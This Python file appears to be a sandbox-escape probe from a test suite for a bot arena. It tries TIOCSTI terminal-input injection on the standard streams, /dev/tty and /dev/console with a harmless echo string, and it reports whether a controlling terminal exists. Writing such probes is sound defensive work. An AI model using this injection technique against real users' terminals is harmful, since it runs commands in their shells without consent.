"""Attack: type into the referee's terminal. TIOCSTI pushes characters into a terminal's input
as if typed: a bot holding the referee's terminal could run commands in the user's shell after
arena exits. Tries TIOCSTI on its stdin, stdout and stderr and on /dev/tty (the controlling
terminal), and reports whether it has one at all."""

import fcntl
import os
import termios

from attacklib import attempt, info, play

TEXT = b"echo ARENA-TTY-INJECTED\n"


def inject(fd: int) -> str:
    for byte in TEXT:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    return f"injected into fd {fd}"


def attack() -> None:
    for fd in (0, 1, 2):
        attempt(f"tiocsti_fd{fd}", lambda fd=fd: inject(fd))
    attempt("open_dev_tty", lambda: inject(os.open("/dev/tty", os.O_RDWR)))
    attempt("open_dev_console", lambda: inject(os.open("/dev/console", os.O_RDWR)))
    with open("/proc/self/stat") as handle:
        fields = handle.read().rsplit(")", 1)[1].split()
    info(
        "controlling_tty", {"tty_nr": int(fields[4]), "isatty": [os.isatty(fd) for fd in (0, 1, 2)]}
    )


def on_request(number, request):
    if number == 1:
        attack()
    return None


play(name="tty", on_request=on_request)
